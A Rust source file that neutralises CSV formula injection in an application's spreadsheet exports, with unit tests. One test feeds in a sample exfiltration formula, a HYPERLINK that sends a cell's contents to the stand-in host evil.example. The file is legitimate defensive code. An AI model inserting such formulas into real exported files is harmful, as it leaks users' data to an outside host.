//! Cells of the CSV files Flow writes for people, who open them in a spreadsheet (Excel reads
//! `;` and a byte-order mark straight away). A value a person typed — a name, a message, a
//! rejected cell of an import — must never run there as a formula (CSV injection, OWASP): every
//! CSV writer of Flow passes each cell through [`cell`].

use std::borrow::Cow;

/// `value` as a spreadsheet cell that is not a formula: a leading `=`, `+`, `-`, `@`, tab or
/// carriage return gets a `'` before it, which spreadsheets show as text.
pub fn cell(value: &str) -> Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}").into(),
        _ => value.into(),
    }
}

/// Writes `row` to `writer`, each field through [`cell`].
///
/// # Errors
/// What the CSV writer answers.
pub fn write_row<W, I>(writer: &mut csv::Writer<W>, row: I) -> csv::Result<()>
where
    W: std::io::Write,
    I: IntoIterator,
    I::Item: AsRef<str>,
{
    writer.write_record(row.into_iter().map(|v| cell(v.as_ref()).into_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_text_is_kept() {
        for dangerous in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(cell(dangerous), format!("'{dangerous}"));
        }
        for plain in ["SAIR", "Maria", "5511987654321", "", " =not first"] {
            assert_eq!(cell(plain), plain);
        }
    }

    #[test]
    fn rows_are_written_through_cell() {
        let mut w = csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(Vec::new());
        write_row(
            &mut w,
            ["=HYPERLINK(\"https://evil.example/?\"&C2;\"Abrir\")", "ok"],
        )
        .unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(
            text,
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&C2;\"\"Abrir\"\")\";ok\n"
        );
    }
}
